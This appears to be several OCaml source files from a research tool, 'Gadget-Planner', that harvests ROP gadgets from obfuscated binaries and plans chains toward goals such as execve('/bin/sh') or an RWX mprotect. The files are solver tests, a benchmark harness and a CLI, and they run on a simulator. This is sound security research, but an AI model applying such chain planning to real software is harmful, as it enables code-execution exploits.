      let h1, _ = Gp_core.Incr.suffix_store_stats () in
      Alcotest.(check bool) "original-to-obfuscated suffix store hits" true
        (h1 > h0);
      Alcotest.(check bool) "suffix hits counted in stats" true
        (st2.Gp_core.Extract.h_suffix_hits > 0);
      Gp_core.Incr.reset ())

let pipeline_suite =
  [ Alcotest.test_case "pipeline: compose on/off x jobs" `Slow
      test_pipeline_differential;
    Alcotest.test_case "pipeline: compose x jobs under faults" `Slow
      test_pipeline_differential_faults;
    Alcotest.test_case "pipeline: suffix store traffic" `Quick
      test_pipeline_suffix_store_traffic ]

let suite = base_suite @ exec_suite @ pipeline_suite
