(* Tests for the SMT substrate: simplification soundness (the canonical
   form evaluates identically to the original term under random models),
   linear solving, pointer pinning, entailment, and probabilistic
   equality. *)

open Gp_smt

let v = Term.var
let c = Term.const

(* ----- unit: simplification identities ----- *)

let test_linear_canonical () =
  (* x + 1 + 1 == 2 + x after canonicalization *)
  Alcotest.(check bool) "x+1+1 = 2+x" true
    (Term.equal
       (Term.add (Term.add (v "x") (c 1L)) (c 1L))
       (Term.add (c 2L) (v "x")));
  (* x - x == 0 *)
  Alcotest.(check bool) "x-x = 0" true (Term.equal (Term.sub (v "x") (v "x")) (c 0L));
  (* 3*x - 2*x == x *)
  Alcotest.(check bool) "3x-2x = x" true
    (Term.equal
       (Term.sub (Term.mul (c 3L) (v "x")) (Term.mul (c 2L) (v "x")))
       (v "x"))

let test_bitwise_identities () =
  Alcotest.(check bool) "x^x = 0" true (Term.equal (Term.logxor (v "x") (v "x")) (c 0L));
  Alcotest.(check bool) "x&x = x" true (Term.equal (Term.logand (v "x") (v "x")) (v "x"));
  Alcotest.(check bool) "x|0 = x" true (Term.equal (Term.logor (v "x") (c 0L)) (v "x"));
  Alcotest.(check bool) "~~x = x" true (Term.equal (Term.lognot (Term.lognot (v "x"))) (v "x"))

let test_not_as_linear () =
  (* ~x = -x - 1 is linear; so ~x + x + 1 == 0 *)
  Alcotest.(check bool) "~x+x+1 = 0" true
    (Term.equal (Term.add (Term.add (Term.lognot (v "x")) (v "x")) (c 1L)) (c 0L))

let test_shl_as_mul () =
  Alcotest.(check bool) "x<<3 = 8x" true
    (Term.equal (Term.shl (v "x") (c 3L)) (Term.mul (c 8L) (v "x")))

let test_subst () =
  let t = Term.add (v "x") (v "y") in
  let t' = Term.subst (fun n -> if n = "x" then Some (c 5L) else None) t in
  Alcotest.(check bool) "subst" true (Term.equal t' (Term.add (c 5L) (v "y")))

(* ----- properties ----- *)

let prop_simplify_sound (t, m) =
  Term.eval m t = Term.eval m (Term.simplify t)

let prop_smart_constructors_sound (t, m) =
  (* rebuilding through smart constructors preserves value *)
  let rec rebuild t =
    match t with
    | Term.Var _ | Term.Const _ -> t
    | Term.Add (a, b) -> Term.add (rebuild a) (rebuild b)
    | Term.Sub (a, b) -> Term.sub (rebuild a) (rebuild b)
    | Term.Mul (a, b) -> Term.mul (rebuild a) (rebuild b)
    | Term.Neg a -> Term.neg (rebuild a)
    | Term.Not a -> Term.lognot (rebuild a)
    | Term.And (a, b) -> Term.logand (rebuild a) (rebuild b)
    | Term.Or (a, b) -> Term.logor (rebuild a) (rebuild b)
    | Term.Xor (a, b) -> Term.logxor (rebuild a) (rebuild b)
    | Term.Shl (a, b) -> Term.shl (rebuild a) (rebuild b)
    | Term.Shr (a, b) -> Term.shr (rebuild a) (rebuild b)
    | Term.Sar (a, b) -> Term.sar (rebuild a) (rebuild b)
  in
  Term.eval m t = Term.eval m (rebuild t)

let prop_linearize_sound (t, m) =
  match Term.linearize t with
  | None -> true
  | Some l -> Term.eval m t = Term.eval m (Term.of_linear l)

(* ----- solver ----- *)

let model_sat formulas =
  match Solver.check formulas with
  | Solver.Sat m ->
    Alcotest.(check bool) "model satisfies" true
      (List.for_all (Formula.eval (Solver.model_fn m)) formulas);
    m
  | Solver.Unsat -> Alcotest.fail "expected sat, got unsat"
  | Solver.Unknown -> Alcotest.fail "expected sat, got unknown"

let test_solver_linear_system () =
  let m =
    model_sat
      [ Formula.Eq (Term.add (v "x") (c 3L), c 10L);
        Formula.Eq (v "y", Term.add (v "x") (v "x")) ]
  in
  Alcotest.(check int64) "x" 7L (Solver.model_fn m "x");
  Alcotest.(check int64) "y" 14L (Solver.model_fn m "y")

let test_solver_unsat () =
  match
    Solver.check [ Formula.Eq (v "x", c 1L); Formula.Eq (v "x", c 2L) ]
  with
  | Solver.Unsat -> ()
  | _ -> Alcotest.fail "expected unsat"

let test_solver_odd_coefficient () =
  (* 3x = 9 has the unique solution x = 3 mod 2^64 *)
  let m = model_sat [ Formula.Eq (Term.mul (c 3L) (v "x"), c 9L) ] in
  Alcotest.(check int64) "x" 3L (Solver.model_fn m "x")

let test_solver_disequality () =
  ignore (model_sat [ Formula.Ne (v "x", v "y"); Formula.Eq (v "x", c 5L) ])

let test_solver_ordering () =
  ignore (model_sat [ Formula.Slt (v "x", c 0L); Formula.Ult (c 10L, v "x") ])

let test_solver_pointer_pin () =
  let pool =
    { Solver.pins = [ 0x1000L; 0x2000L ];
      readable = (fun a -> a = 0x1000L || a = 0x2000L);
      writable = (fun a -> a = 0x1000L || a = 0x2000L) }
  in
  match Solver.check ~pool [ Formula.Writable (v "p"); Formula.Readable (v "q") ] with
  | Solver.Sat m ->
    let p = Solver.model_fn m "p" and q = Solver.model_fn m "q" in
    Alcotest.(check bool) "p pinned" true (p = 0x1000L || p = 0x2000L);
    Alcotest.(check bool) "q pinned" true (q = 0x1000L || q = 0x2000L);
    Alcotest.(check bool) "distinct pins" true (p <> q)
  | _ -> Alcotest.fail "expected sat"

let test_entails () =
  (* x = 3 entails x + 1 = 4 *)
  Alcotest.(check bool) "entailed" true
    (Solver.entails
       [ Formula.Eq (v "x", c 3L) ]
       (Formula.Eq (Term.add (v "x") (c 1L), c 4L)));
  Alcotest.(check bool) "not entailed" false
    (Solver.entails [ Formula.Eq (v "x", c 3L) ] (Formula.Eq (v "y", c 0L)))

let test_prove_equal_xor_identity () =
  (* the substitution pass identity: (~a & b) | (a & ~b) == a ^ b *)
  let a = v "a" and b = v "b" in
  let lhs = Term.logor (Term.logand (Term.lognot a) b) (Term.logand a (Term.lognot b)) in
  Alcotest.(check bool) "xor identity" true (Solver.prove_equal lhs (Term.logxor a b));
  Alcotest.(check bool) "refutable" false (Solver.prove_equal (Term.add a b) (Term.mul a b))

let prop_sat_models_check formulas_seed =
  (* random linear systems: any Sat answer's model satisfies all atoms *)
  let rng = Gp_util.Rng.create formulas_seed in
  let rand_term () =
    let coeff = Int64.of_int (1 + Gp_util.Rng.int rng 5) in
    let base = Term.mul (c coeff) (v (Printf.sprintf "v%d" (Gp_util.Rng.int rng 3))) in
    Term.add base (c (Int64.of_int (Gp_util.Rng.int rng 100)))
  in
  let formulas =
    List.init (1 + Gp_util.Rng.int rng 4) (fun _ ->
        Formula.Eq (rand_term (), c (Int64.of_int (Gp_util.Rng.int rng 1000))))
  in
  match Solver.check formulas with
  | Solver.Sat m -> List.for_all (Formula.eval (Solver.model_fn m)) formulas
  | Solver.Unsat | Solver.Unknown -> true

let test_formula_negate () =
  let m vname = if vname = "x" then 3L else 5L in
  List.iter
    (fun f ->
      Alcotest.(check bool) "negation flips" true
        (Formula.eval m f <> Formula.eval m (Formula.negate f)))
    [ Formula.Eq (v "x", v "y"); Formula.Ne (v "x", c 3L);
      Formula.Slt (v "x", v "y"); Formula.Ule (v "y", v "x") ]

let suite =
  [ Alcotest.test_case "linear canonical" `Quick test_linear_canonical;
    Alcotest.test_case "bitwise identities" `Quick test_bitwise_identities;
    Alcotest.test_case "not as linear" `Quick test_not_as_linear;
    Alcotest.test_case "shl as mul" `Quick test_shl_as_mul;
    Alcotest.test_case "subst" `Quick test_subst;
    Alcotest.test_case "solver linear system" `Quick test_solver_linear_system;
    Alcotest.test_case "solver unsat" `Quick test_solver_unsat;
    Alcotest.test_case "solver odd coefficient" `Quick test_solver_odd_coefficient;
    Alcotest.test_case "solver disequality" `Quick test_solver_disequality;
    Alcotest.test_case "solver ordering" `Quick test_solver_ordering;
    Alcotest.test_case "solver pointer pin" `Quick test_solver_pointer_pin;
    Alcotest.test_case "entails" `Quick test_entails;
    Alcotest.test_case "prove_equal xor identity" `Quick test_prove_equal_xor_identity;
    Alcotest.test_case "formula negate" `Quick test_formula_negate;
    Gen.qtest "simplify is sound" ~count:500
      (QCheck2.Gen.pair Gen.term Gen.model) prop_simplify_sound;
    Gen.qtest "smart constructors sound" ~count:500
      (QCheck2.Gen.pair Gen.term Gen.model) prop_smart_constructors_sound;
    Gen.qtest "linearize sound" ~count:500
      (QCheck2.Gen.pair Gen.term Gen.model) prop_linearize_sound;
    Gen.qtest "sat models check" ~count:100 QCheck2.Gen.(int_range 0 100000)
      prop_sat_models_check ]

(* ----- additional solver edge cases ----- *)

let test_solver_even_coefficient_pin () =
  (* the jump-table shape: readable(8*x + base) pins x so the read lands
     on a pool address (power-of-two pivot) *)
  let pool =
    { Solver.pins = [ 0x5008L ];
      readable = (fun a -> a = 0x5008L);
      writable = (fun _ -> false) }
  in
  match
    Solver.check ~pool
      [ Formula.Readable (Term.add (Term.mul (c 8L) (v "x")) (c 0x1000L)) ]
  with
  | Solver.Sat m ->
    Alcotest.(check int64) "x solves the table index" 0x801L
      (Solver.model_fn m "x")
  | _ -> Alcotest.fail "expected sat"

let test_solver_even_pin_indivisible () =
  (* 8*x + 1 can never be 8-aligned: the unpinnable atom survives to the
     final check and the result must not claim Sat with a bad model *)
  let pool =
    { Solver.pins = [ 0x5008L ];
      readable = (fun a -> a = 0x5008L);
      writable = (fun _ -> false) }
  in
  (match
     Solver.check ~pool
       [ Formula.Readable (Term.add (Term.mul (c 8L) (v "x")) (c 1L)) ]
   with
  | Solver.Sat m ->
    (* if it says Sat, the model must actually satisfy the atom *)
    Alcotest.(check bool) "model honest" true
      (Formula.eval ~readable:(fun a -> a = 0x5008L) (Solver.model_fn m)
         (Formula.Readable (Term.add (Term.mul (c 8L) (v "x")) (c 1L))))
  | Solver.Unsat | Solver.Unknown -> ())

let test_solver_mixed_system () =
  (* equalities + ordering + disequality together *)
  let m =
    model_sat
      [ Formula.Eq (Term.add (v "a") (v "b"), c 100L);
        Formula.Slt (v "a", v "b");
        Formula.Ne (v "a", c 0L) ]
  in
  let a = Solver.model_fn m "a" and b = Solver.model_fn m "b" in
  Alcotest.(check int64) "sum" 100L (Int64.add a b);
  Alcotest.(check bool) "ordered" true (Int64.compare a b < 0)

let test_inv64 () =
  List.iter
    (fun x ->
      Alcotest.(check int64)
        (Printf.sprintf "inv %Ld" x)
        1L
        (Int64.mul x (Solver.inv64 x)))
    [ 1L; 3L; 5L; 7L; 1103515245L; -1L; Int64.max_int ];
  Alcotest.(check bool) "even rejected" true
    (try ignore (Solver.inv64 4L); false with Invalid_argument _ -> true)

(* ----- abstract domain (Tier A screening, DESIGN.md §12) ----- *)

(* The soundness invariant everything else rests on: the abstract value
   of a term over-approximates its concrete value under EVERY model. *)
let prop_absdom_sound (t, m) = Absdom.mem (Term.eval m t) (Absdom.of_term t)

(* Disjoint abstract values really separate the terms: no model makes
   them equal — which is what licenses the prove_equal screen. *)
let prop_absdom_disjoint_refutes (a, b, m) =
  (not (Absdom.disjoint (Absdom.of_term a) (Absdom.of_term b)))
  || Term.eval m a <> Term.eval m b

(* A definite formula verdict agrees with concrete evaluation under
   every model (Readable/Writable atoms are always Maybe, so the
   default eval predicates are never consulted on a definite answer). *)
let prop_absdom_formula_agrees (f, m) =
  match Absdom.formula f with
  | Absdom.Maybe -> true
  | Absdom.Yes -> Formula.eval m f
  | Absdom.No -> not (Formula.eval m f)

let test_absdom_units () =
  let open Absdom in
  Alcotest.(check bool) "const is const" true (is_const (of_const 42L));
  Alcotest.(check bool) "const value" true (const_of (of_const 42L) = Some 42L);
  Alcotest.(check bool) "top unconstrained" true
    (mem 0L top && mem Int64.min_int top && mem (-1L) top);
  (* x*8 has its low three bits known zero, so it can never equal 1 *)
  let x8 = Term.mul (c 8L) (v "x") in
  Alcotest.(check bool) "8x /= 1" true
    (disjoint (of_term x8) (of_const 1L));
  Alcotest.(check bool) "8x may be 16" false
    (disjoint (of_term x8) (of_const 16L));
  (* constant folding through the domain *)
  Alcotest.(check bool) "const fold" true
    (const_of (of_term (Term.add (c 5L) (c 7L))) = Some 12L);
  (* formula screening on constants *)
  Alcotest.(check bool) "1=2 is No" true
    (formula (Formula.Eq (c 1L, c 2L)) = No);
  Alcotest.(check bool) "8x=1 is No" true
    (formula (Formula.Eq (x8, c 1L)) = No);
  Alcotest.(check bool) "pointer atoms Maybe" true
    (formula (Formula.Readable (v "p")) = Maybe)

let suite =
  suite
  @ [ Alcotest.test_case "even-coefficient pin" `Quick test_solver_even_coefficient_pin;
      Alcotest.test_case "indivisible pin honest" `Quick test_solver_even_pin_indivisible;
      Alcotest.test_case "mixed system" `Quick test_solver_mixed_system;
      Alcotest.test_case "inv64" `Quick test_inv64;
      Alcotest.test_case "absdom units" `Quick test_absdom_units;
      Gen.qtest "absdom over-approximates eval" ~count:1000
        QCheck2.Gen.(pair Gen.term Gen.model) prop_absdom_sound;
      Gen.qtest "absdom disjoint refutes equality" ~count:500
        QCheck2.Gen.(triple Gen.term Gen.term Gen.model)
        prop_absdom_disjoint_refutes;
      Gen.qtest "absdom formula verdicts sound" ~count:1000
        QCheck2.Gen.(pair Gen.formula Gen.model) prop_absdom_formula_agrees ]
