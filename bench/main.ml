(* Benchmark harness: regenerates every table and figure from the paper's
   evaluation (DESIGN.md §4 maps each id to its experiment), plus the
   ablations from DESIGN.md §5.

     dune exec bench/main.exe                 # quick mode, all experiments
     dune exec bench/main.exe -- --full       # full corpus
     dune exec bench/main.exe -- --only fig1  # a single experiment
     dune exec bench/main.exe -- --bechamel   # Bechamel micro-benchmarks of
                                              # the stages behind each table
     dune exec bench/main.exe -- --only par --jobs 4
                                              # sequential-vs-parallel speedup,
                                              # stages 1-2 (writes BENCH_par.json)
     dune exec bench/main.exe -- --only plan --jobs 4
                                              # sequential-vs-parallel speedup,
                                              # stages 3-4 (writes BENCH_plan.json)
     dune exec bench/main.exe -- --only incr --jobs 4 [--cache-dir DIR]
                                              # incremental store: cold vs
                                              # warm-same vs warm-cross analyze
                                              # (writes BENCH_incr.json)
     dune exec bench/main.exe -- --only screen --jobs 4
                                              # tiered solver screening off vs
                                              # on (writes BENCH_screen.json)
     dune exec bench/main.exe -- --only compose --jobs 4
                                              # suffix-compositional extraction
                                              # off vs on + original-to-
                                              # obfuscated suffix-store
                                              # transfer (writes
                                              # BENCH_compose.json)
     dune exec bench/main.exe -- --only resume --jobs 4
                                              # WAL overhead + crash/resume
                                              # differential under injected
                                              # crash points (writes
                                              # BENCH_resume.json)
     dune exec bench/main.exe -- --only sweep --jobs 4
                                              # sequential cell loop vs the
                                              # pipelined cell x stage DAG
                                              # (writes BENCH_sweep.json)
     dune exec bench/main.exe -- --only serve --jobs 4
                                              # resident analysis daemon vs
                                              # cold process-per-request:
                                              # req/s, p50/p99, WAL overhead
                                              # (writes BENCH_serve.json)
     dune exec bench/main.exe -- --only fp --jobs 4
                                              # semantic fingerprint index off
                                              # vs on, screening ON both ways
                                              # (writes BENCH_fp.json)
     dune exec bench/main.exe -- --quick      # smoke mode: one program, one
                                              # config (the `make check-bench`
                                              # end-to-end assertion)
     dune exec bench/main.exe -- --no-screen  # ablation: screening disabled
     dune exec bench/main.exe -- --no-sweep   # ablation: corpus scheduler off
                                              # (sweeps run the sequential loop)
     dune exec bench/main.exe -- --no-compose # ablation: suffix-compositional
                                              # extraction off (monolithic
                                              # summarizer everywhere)
     dune exec bench/main.exe -- --no-fp      # ablation: semantic fingerprint
                                              # index off (probes go straight
                                              # to the screening tiers)

   Absolute numbers differ from the paper (their substrate was a real
   x86-64 testbed, ours is the simulator stack described in DESIGN.md);
   EXPERIMENTS.md records the shape comparison. *)

let header title =
  Printf.printf "\n%s\n%s\n%!" title (String.make (String.length title) '=')

let run_experiment ~quick ~jobs ?cache_dir id =
  match id with
  | "par" ->
    let txt, _ = Gp_harness.Experiments.par ~quick ~jobs () in
    print_string txt
  | "plan" ->
    let txt, _ = Gp_harness.Experiments.plan ~quick ~jobs () in
    print_string txt
  | "incr" ->
    let txt, _ =
      Gp_harness.Experiments.incr ~quick ~jobs
        ?cache_root:cache_dir ()
    in
    print_string txt
  | "screen" ->
    let txt, _ = Gp_harness.Experiments.screen ~quick ~jobs () in
    print_string txt
  | "compose" ->
    let txt, _ =
      Gp_harness.Experiments.compose ~quick ~jobs
        ?cache_root:(Option.map (fun d -> d ^ "-compose") cache_dir) ()
    in
    print_string txt
  | "resume" ->
    let txt, _ =
      Gp_harness.Experiments.resume ~quick ~jobs ?cache_root:cache_dir ()
    in
    print_string txt
  | "sweep" ->
    let txt, _ = Gp_harness.Experiments.sweep ~quick ~jobs () in
    print_string txt
  | "serve" ->
    let txt, _ = Gp_harness.Experiments.serve ~quick ~jobs () in
    print_string txt
  | "fp" ->
    let txt, _ = Gp_harness.Experiments.fp ~quick ~jobs () in
    print_string txt
  | "fig1" ->
    let txt, _ = Gp_harness.Experiments.fig1 ~quick () in
    print_string txt
  | "tab1" ->
    let txt, _ = Gp_harness.Experiments.tab1 ~quick () in
    print_string txt
  | "fig2" ->
    let txt, _ = Gp_harness.Experiments.fig2 ~quick () in
    print_string txt
  | "tab4" ->
    let txt, _ = Gp_harness.Experiments.tab4 ~quick () in
    print_string txt
  | "tab5" ->
    let txt, _ = Gp_harness.Experiments.tab5 ~quick () in
    print_string txt
  | "fig5" ->
    let txt, _ = Gp_harness.Experiments.fig5 ~quick () in
    print_string txt
  | "tab6" ->
    let txt, _ = Gp_harness.Experiments.tab6 () in
    print_string txt
  | "fig6" ->
    let txt, _ = Gp_harness.Experiments.fig6 () in
    print_string txt
  | "fig8" ->
    let txt, _ = Gp_harness.Experiments.fig8 () in
    print_string txt
  | "tab7" ->
    let txt, _ = Gp_harness.Experiments.tab7 () in
    print_string txt
  | "cfi_study" ->
    let txt, _ = Gp_harness.Cfi_study.study () in
    print_string txt
  | "ablation_seeds" -> print_string (Gp_harness.Experiments.ablation_seeds ())
  | "ablation_unaligned" -> print_string (Gp_harness.Experiments.ablation_unaligned ())
  | "ablation_subsumption" ->
    print_string (Gp_harness.Experiments.ablation_subsumption ())
  | "ablation_condjump" -> print_string (Gp_harness.Experiments.ablation_condjump ())
  | other ->
    Printf.eprintf "unknown experiment id: %s\n" other;
    exit 2

let all_ids =
  [ "fig1"; "tab1"; "fig2"; "tab4"; "tab5"; "fig5"; "tab6"; "fig6"; "fig8";
    "tab7"; "par"; "plan"; "incr"; "screen"; "compose"; "resume"; "sweep";
    "serve"; "fp";
    "cfi_study";
    "ablation_unaligned"; "ablation_subsumption"; "ablation_condjump";
    "ablation_seeds" ]

(* ----- Bechamel micro-benchmarks: the stage behind each table ----- *)

let bechamel_tests () =
  let open Bechamel in
  let src = (Gp_corpus.Programs.find "fibonacci").Gp_corpus.Programs.source in
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
      src
  in
  let harvested = Gp_core.Extract.harvest image in
  let minimal, _ = Gp_core.Subsume.minimize harvested in
  let pool = Gp_core.Pool.build minimal in
  let goal = Gp_core.Goal.concretize image (Gp_core.Goal.Execve "/bin/sh") in
  let tiny_planner =
    { Gp_core.Planner.max_plans = 4; node_budget = 300; time_budget = 5.;
      branch_cap = 6; goal_cap = 3; max_steps = 10 }
  in
  let ir = Gp_codegen.Pipeline.to_ir src in
  [ (* Fig. 1 / Table I rest on the raw census *)
    Test.make ~name:"fig1/raw_scan"
      (Staged.stage (fun () -> ignore (Gp_core.Extract.raw_scan image)));
    (* Table IV's pipeline: extraction, subsumption, planning *)
    Test.make ~name:"tab4/harvest"
      (Staged.stage (fun () -> ignore (Gp_core.Extract.harvest image)));
    Test.make ~name:"tab4/subsume"
      (Staged.stage (fun () -> ignore (Gp_core.Subsume.minimize harvested)));
    Test.make ~name:"tab4/plan"
      (Staged.stage (fun () ->
           ignore (Gp_core.Planner.search ~config:tiny_planner pool goal)));
    (* Fig. 5 rests on the obfuscation passes + compile *)
    Test.make ~name:"fig5/obfuscate+compile"
      (Staged.stage (fun () ->
           ignore
             (Gp_codegen.Pipeline.compile_ir
                ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
                ir)));
    (* Fig. 8 rests on emulated validation *)
    Test.make ~name:"fig8/emulate"
      (Staged.stage (fun () -> ignore (Gp_emu.Machine.run_image ~fuel:200_000 image)))
  ]

let run_bechamel () =
  let open Bechamel in
  let instances = Toolkit.Instance.[ monotonic_clock ] in
  let cfg = Benchmark.cfg ~limit:500 ~quota:(Time.second 1.0) ~kde:(Some 500) () in
  let tests = bechamel_tests () in
  let results =
    List.map
      (fun test ->
        Benchmark.all cfg instances test)
      [ Test.make_grouped ~name:"gadget-planner" tests ]
  in
  let ols =
    List.map
      (fun r ->
        Analyze.all (Analyze.ols ~bootstrap:0 ~r_square:true
                       ~predictors:[| Measure.run |])
          Toolkit.Instance.monotonic_clock r)
      results
  in
  List.iter
    (fun tbl ->
      Hashtbl.iter
        (fun name res ->
          match Bechamel.Analyze.OLS.estimates res with
          | Some [ est ] ->
            Printf.printf "%-28s %12.0f ns/run\n" name est
          | _ -> Printf.printf "%-28s (no estimate)\n" name)
        tbl)
    ols

let () =
  let argv = Array.to_list Sys.argv in
  let full = List.mem "--full" argv in
  let quick = not full in
  let smoke = List.mem "--quick" argv in
  if smoke then Gp_harness.Experiments.set_smoke true;
  if List.mem "--no-screen" argv then Gp_smt.Solver.set_screen_enabled false;
  if List.mem "--no-sweep" argv then Gp_harness.Experiments.set_sched false;
  if List.mem "--no-compose" argv then Gp_symx.Exec.set_compose_enabled false;
  if List.mem "--no-fp" argv then Gp_smt.Fpeval.set_enabled false;
  let mode_name = if smoke then "smoke" else if quick then "quick" else "full" in
  let bechamel = List.mem "--bechamel" argv in
  let only =
    let rec find = function
      | "--only" :: id :: _ -> Some id
      | _ :: rest -> find rest
      | [] -> None
    in
    find argv
  in
  let jobs =
    let rec find = function
      | "--jobs" :: n :: _ -> int_of_string n
      | _ :: rest -> find rest
      | [] -> 4
    in
    find argv
  in
  let cache_dir =
    let rec find = function
      | "--cache-dir" :: d :: _ -> Some d
      | _ :: rest -> find rest
      | [] -> None
    in
    find argv
  in
  if bechamel then begin
    header "Bechamel micro-benchmarks (pipeline stages behind the tables)";
    run_bechamel ()
  end
  else begin
    match only with
    | Some id ->
      header (Printf.sprintf "Experiment %s (%s mode)" id mode_name);
      run_experiment ~quick ~jobs ?cache_dir id
    | None ->
      header
        (Printf.sprintf "Gadget-Planner evaluation — all experiments (%s mode)"
           mode_name);
      List.iter
        (fun id ->
          Printf.printf "\n[%s]\n%!" id;
          run_experiment ~quick ~jobs ?cache_dir id)
        all_ids
  end
