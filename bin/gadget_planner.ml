(* Command-line front end.

     gadget_planner compile  <prog> [--obf PRESET]    run a corpus program
     gadget_planner scan     <prog> [--obf PRESET]    gadget census
     gadget_planner plan     <prog> [--obf PRESET] [--goal G] [--max N]
     gadget_planner survey   [--manifest DIR] [--resume]   checkpointed sweep
     gadget_planner netperf  [--obf PRESET]           end-to-end case study
     gadget_planner serve    --socket PATH [--cache-dir DIR]   resident daemon
     gadget_planner submit   <prog> --socket PATH [--goal G]   ask the daemon
     gadget_planner list                              list corpus programs

   <prog> is a corpus program name (see `list`) or a path to a mini-C
   source file.

   Failure exit codes follow the Fail taxonomy (DESIGN.md §13):
   75 transient timeout/budget, 70 hard analysis fault, 78 store
   problem; cmdliner owns usage errors (124). *)

open Cmdliner

let load_source prog =
  if Sys.file_exists prog then begin
    let ic = open_in_bin prog in
    let n = in_channel_length ic in
    let s = really_input_string ic n in
    close_in ic;
    s
  end
  else
    (List.find
       (fun (e : Gp_corpus.Programs.entry) -> e.Gp_corpus.Programs.name = prog)
       (Gp_corpus.Programs.all @ Gp_corpus.Spec.all @ [ Gp_corpus.Netperf.entry ]))
      .Gp_corpus.Programs.source

let obf_of_name = function
  | "none" | "original" -> Gp_obf.Obf.none
  | "ollvm" | "llvm-obf" -> Gp_obf.Obf.ollvm
  | "tigress" -> Gp_obf.Obf.tigress
  | s -> Gp_obf.Obf.single (Gp_obf.Obf.pass_of_name s)

let goal_of_name = function
  | "execve" -> Gp_core.Goal.Execve "/bin/sh"
  | "mprotect" -> Gp_core.Goal.Mprotect (Gp_emu.Machine.stack_base, 0x1000L, 7L)
  | "mmap" -> Gp_core.Goal.Mmap (0L, 0x1000L, 7L)
  | s -> invalid_arg ("unknown goal: " ^ s)

let prog_arg =
  Arg.(required & pos 0 (some string) None & info [] ~docv:"PROGRAM")

let obf_arg =
  Arg.(value & opt string "none"
       & info [ "obf" ] ~docv:"PRESET"
           ~doc:"Obfuscation: none, ollvm, tigress, or a single pass name.")

let budget_arg =
  Arg.(value & opt (some float) None
       & info [ "budget" ] ~docv:"SECONDS"
           ~doc:"Wall-clock budget for the whole pipeline run.")

let budget_of = Option.map (fun s -> Gp_core.Budget.create ~label:"cli" ~seconds:s ())

let jobs_arg =
  Arg.(value & opt int 1
       & info [ "j"; "jobs" ] ~docv:"N"
           ~doc:"Domains for all four pipeline stages — extraction, \
                 subsumption, planning, validation (results are \
                 deterministic and identical to -j 1).")

let cache_dir_arg =
  Arg.(value & opt (some string) None
       & info [ "cache-dir" ] ~docv:"DIR"
           ~doc:"Directory for the content-addressed incremental store: \
                 summaries and solver verdicts persist across runs, so a \
                 warm run skips re-executing content it has seen — \
                 including across obfuscation configs of the same \
                 program.  Results are bit-identical with or without it; \
                 a corrupt or stale store falls back to a cold run.")

(* ----- shared ablation flags -----

   One table row per switchable subsystem.  Every pipeline subcommand
   composes the same flags from this table, so adding an ablation
   switch is a one-row change here instead of a per-subcommand edit.
   All toggles are semantics-preserving: results are bit-identical
   with the subsystem on or off — the flags exist for ablation
   timings, and the bench experiments flip the same switches
   programmatically. *)

let ablation_specs =
  [ ("no-screen",
     "Disable the tiered solver screening front-end (abstract \
      screening, concrete refutation, elimination reuse — DESIGN.md \
      section 12).",
     fun () -> Gp_smt.Solver.set_screen_enabled false);
    ("no-compose",
     "Disable suffix-compositional symbolic extraction (DESIGN.md \
      section 16): every start offset is re-executed monolithically \
      instead of extending the shared tail summary.",
     fun () -> Gp_symx.Exec.set_compose_enabled false);
    ("no-fp",
     "Disable the semantic fingerprint index (DESIGN.md section 17): \
      subsumption and planner probes go straight to the solver's \
      screening tiers instead of being pruned by the shared \
      multi-point fingerprints first.",
     fun () -> Gp_smt.Fpeval.set_enabled false);
    ("no-sweep",
     "Run the legacy sequential cell loop instead of the pipelined \
      cell x stage scheduler (DESIGN.md section 14); --jobs then \
      parallelizes within each cell rather than across cells.  Only \
      the survey subcommand consults this switch.",
     fun () -> Gp_harness.Experiments.set_sched false) ]

(* One cmdliner term parsing every table row; evaluating it applies
   the toggles that were set on the command line.  Run functions take
   the resulting () as their first argument, so application precedes
   any pipeline work. *)
let ablation_term =
  let one (flag_name, doc, apply) =
    let arg =
      Arg.(value & flag
           & info [ flag_name ]
               ~doc:(doc
                     ^ "  Results are bit-identical either way; the \
                        flag exists for ablation timings."))
    in
    Term.(const (fun set -> if set then apply ()) $ arg)
  in
  List.fold_left
    (fun acc spec -> Term.(const (fun () () -> ()) $ acc $ one spec))
    (Term.const ()) ablation_specs

let json_errors_arg =
  Arg.(value & flag
       & info [ "json-errors" ]
           ~doc:"Emit each failure as a one-line JSON record on stderr \
                 (class, detail, exit code) for machine supervision; \
                 the process exit code matches the record's.")

(* One failure on stderr: structured when --json-errors, human text
   otherwise.  The label keys both the record's class and the exit
   code (Fail.exit_code_of_label). *)
let emit_failure ~json label detail =
  if json then prerr_endline (Gp_core.Fail.json_record ~label ~detail)
  else Printf.eprintf "error: %s: %s\n%!" label detail

let compile_image prog obf =
  Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform (obf_of_name obf))
    (load_source prog)

(* ----- compile ----- *)

let compile_cmd =
  let run prog obf =
    let image = compile_image prog obf in
    Printf.printf "code: %d bytes, data: %d bytes, entry 0x%Lx\n"
      (Gp_util.Image.code_size image) (Gp_util.Image.data_size image)
      image.Gp_util.Image.entry;
    let m = Gp_emu.Machine.create image in
    Gp_emu.Memory.write64 m.Gp_emu.Machine.mem Gp_corpus.Netperf.input_area 2L;
    match Gp_emu.Machine.run ~fuel:50_000_000 m with
    | Gp_emu.Machine.Exited v -> Printf.printf "exited with %Ld\n" v
    | Gp_emu.Machine.Fault msg -> Printf.printf "fault: %s\n" msg
    | Gp_emu.Machine.Attacked _ -> print_endline "attacked?!"
    | Gp_emu.Machine.Timeout -> print_endline "timeout"
  in
  Cmd.v (Cmd.info "compile" ~doc:"Compile (and optionally obfuscate) and run.")
    Term.(const run $ prog_arg $ obf_arg)

(* ----- scan ----- *)

let scan_cmd =
  let run () prog obf jobs cache_dir =
    let image = compile_image prog obf in
    let counts = Gp_core.Extract.raw_counts image in
    let total = List.fold_left (fun a (_, c) -> a + c) 0 counts in
    Printf.printf "raw gadget census (%d total):\n" total;
    List.iter
      (fun (k, c) -> Printf.printf "  %-6s %6d\n" (Gp_core.Gadget.kind_name k) c)
      counts;
    let a = Gp_core.Api.analyze ~jobs ?cache_dir image in
    Printf.printf "planner pool after subsumption: %d (from %d summaries)\n"
      (Gp_core.Pool.size a.Gp_core.Api.pool) a.Gp_core.Api.raw_extracted;
    if cache_dir <> None then
      Printf.printf "store: %d loaded, %d summary hits, %d misses\n"
        a.Gp_core.Api.analysis_store_loaded
        a.Gp_core.Api.analysis_summary_hits
        a.Gp_core.Api.analysis_summary_misses
  in
